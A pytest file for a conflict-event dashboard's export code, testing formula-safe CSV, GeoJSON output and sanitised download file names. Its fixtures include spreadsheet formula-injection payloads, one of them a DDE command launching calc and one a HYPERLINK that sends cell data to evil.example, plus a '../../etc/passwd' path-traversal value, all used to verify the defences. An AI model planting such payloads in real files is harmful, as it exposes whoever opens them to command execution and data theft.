"""Data exports: formula-safe CSV that loads back, GeoJSON with sources, names, the app's downloads."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from dashboard.books.gazetteer import Gazetteer
from dashboard.events.query import Query, events_in
from dashboard.events.scene import MapSpec
from dashboard.events.store import EventStore, index_store
from dashboard.exports.export import (
    EXPORT_COLUMNS,
    NAME_LIMIT,
    TEXT_COLUMNS,
    downloads,
    export_name,
    to_csv_bytes,
    to_geojson_bytes,
)
from dashboard.ingest.load import load_events
from dashboard.model.text import neutralise_cell, unneutralise_cell
from tests.conftest import editable

PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
SOURCES = {"src": {"title": "Offensive report", "outlet": "Test Wire", "published": "2016-02-02",
                   "url": "https://example.org/report"}}


@pytest.fixture
def payload_store(small_store) -> EventStore:
    """The small store with formula payloads in text cells, a negative longitude and counts."""
    frame = editable(small_store.events)
    frame.loc[0, "summary"] = PAYLOADS[0]
    frame.loc[1, "quote"] = PAYLOADS[5]
    frame.loc[2, "place"] = PAYLOADS[3]
    frame.loc[3, "claimed_by"] = PAYLOADS[6]
    frame.loc[4, "dispute"] = PAYLOADS[7]
    frame.loc[0, "actors"] = "-IRGC;Hezbollah"
    frame.loc[3, "lon"] = -51.39
    frame["fatalities"] = pd.array([3, None, 0, None, 12], dtype="Int64")
    frame["summary"] = frame["summary"].where(frame.index != 2, "Town captured, 1 km² “held”")
    return index_store("payloads", frame, actors=small_store.actors)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised_and_reversible(payload):
    safe = neutralise_cell(payload)
    assert safe.startswith("'") and safe[1:] == payload
    assert unneutralise_cell(safe) == payload


@pytest.mark.parametrize("text", ["Aleppo", "", "a=b", "IRGC-led", "'Twas", "3 killed", "حلب"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_cell(text) == text
    assert unneutralise_cell(text) == text


def _rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM so spreadsheets read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_text_cells_only(payload_store):
    rows = _rows(to_csv_bytes(payload_store.events))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    cells = [row[c] for row in rows for c in TEXT_COLUMNS]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert any(c == "'" + PAYLOADS[0] for c in cells)
    assert any(c == "''=already quoted" for c in cells)
    by_id = {row["id"]: row for row in rows}
    assert by_id["d"]["longitude"] == "-51.39"  # a number, not a formula: never prefixed
    assert by_id["b"]["date"] == "2016-02-01" and by_id["b"]["date_end"] == "2016-02-29"
    assert by_id["a"]["fatalities"] == "3" and by_id["b"]["fatalities"] == ""


def test_csv_can_be_written_raw(payload_store):
    rows = _rows(to_csv_bytes(payload_store.events, neutralise=False))
    assert PAYLOADS[0] in [row["summary"] for row in rows]


def test_csv_round_trips_through_the_loader(payload_store):
    original = payload_store.events.set_index("id").sort_index()
    back = load_events(to_csv_bytes(original.reset_index()), name="export.csv", fmt="ours",
                       gazetteer=Gazetteer(), actors=payload_store.actors)
    assert [p for p in back.problems if p.action in ("discarded", "error")] == []
    loaded = back.events.set_index("id").sort_index()
    assert list(loaded.index) == list(original.index)
    for column in ("start", "end", "date_precision", "event_type", "loc_precision"):
        assert loaded[column].tolist() == original[column].tolist(), column
    assert loaded["lat"].tolist() == original["lat"].tolist()
    assert loaded["lon"].tolist() == original["lon"].tolist()
    assert loaded["uncertainty_km"].tolist() == original["uncertainty_km"].tolist()
    assert loaded["fatalities"].astype("Float64").fillna(-1).tolist() == \
        original["fatalities"].astype("Float64").fillna(-1).tolist()
    # The loader takes off the quote our export put in front of formula-like text (and, as for any
    # file, the white space around a cell): nothing else changes.
    for column in ("actors", "quote", "summary", "place", "claimed_by", "dispute"):
        expected = original[column].astype(str).str.strip().tolist()
        assert loaded[column].astype(str).tolist() == expected, column


def test_geojson_carries_points_properties_and_sources(payload_store):
    events = payload_store.events
    doc = json.loads(to_geojson_bytes(events, SOURCES))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == len(events)
    for feature, event in zip(doc["features"], events.to_dict("records"), strict=True):
        props = feature["properties"]
        assert feature["geometry"] == {"type": "Point", "coordinates": [event["lon"], event["lat"]]}
        assert props["id"] == event["id"] and props["quote"] == event["quote"]
        assert props["summary"] == event["summary"]  # JSON is not a spreadsheet: kept as is
        assert props["actors"] == event["actors"]
        assert props["date"] == event["start"].date().isoformat()
        assert props["date_end"] == event["end"].date().isoformat()
        assert props["source_title"] == "Offensive report" and props["source_outlet"] == "Test Wire"
        assert props["fatalities"] == (None if pd.isna(event["fatalities"]) else event["fatalities"])


def test_empty_exports_are_valid(payload_store):
    none = payload_store.events.iloc[:0]
    assert _rows(to_csv_bytes(none)) == []
    assert json.loads(to_geojson_bytes(none))["features"] == []


@pytest.mark.parametrize(
    ("query", "ext", "expected"),
    [
        (Query(start=pd.Timestamp("2016-01-01"), end=pd.Timestamp("2016-03-01"), actors=("IRGC",)),
         "png", "atlas_2016-01-01_2016-03-01_IRGC.png"),
        (Query(start=pd.Timestamp("2016-01-01"), end=pd.Timestamp("2016-03-01"),
               actors=("IRGC", "coalition:armed opposition"), event_types=("battle",)),
         ".csv", "atlas_2016-01-01_2016-03-01_IRGC+side-armed-opposition_battle.csv"),
        (Query(), "geojson", "atlas_start_end.geojson"),
        (Query(actors=("../../etc/passwd", "حزب الله"), text="Khan Tuman"), "html",
         "atlas_start_end_etc-passwd_Khan-Tuman.html"),
    ],
)
def test_export_names(query, ext, expected):
    assert export_name(query, ext) == expected


def test_export_names_are_capped_and_safe():
    name = export_name(Query(actors=tuple(f"Brigade {n}" for n in range(80))), "png")
    stem = name.removesuffix(".png")
    assert len(stem) <= NAME_LIMIT and name.endswith(".png")
    assert "/" not in name and "\\" not in name and not name.startswith(".")


def test_downloads_offer_four_named_files(payload_store, monkeypatch):
    monkeypatch.setenv("ATLAS_CHROMIUM", "/nonexistent/chromium")
    query = Query(start=pd.Timestamp("2016-01-01"), end=pd.Timestamp("2016-03-01"), actors=("IRGC",))
    offered = downloads(payload_store, MapSpec(query=query), sources=SOURCES)
    assert [d.filename for d in offered] == [
        f"atlas_2016-01-01_2016-03-01_IRGC.{ext}" for ext in ("png", "html", "csv", "geojson")
    ]
    assert [d.mime for d in offered] == ["image/png", "text/html", "text/csv", "application/geo+json"]
    png, page, table, geo = offered
    assert "apt-get install chromium" in (png.unavailable or "")
    assert page.unavailable is table.unavailable is geo.unavailable is None
    assert table.make() == to_csv_bytes(events_in(payload_store, query))
    assert [f["properties"]["id"] for f in json.loads(geo.make())["features"]] == ["b"]
    assert "2016-01-01 to 2016-03-01" in page.make().decode("utf-8")
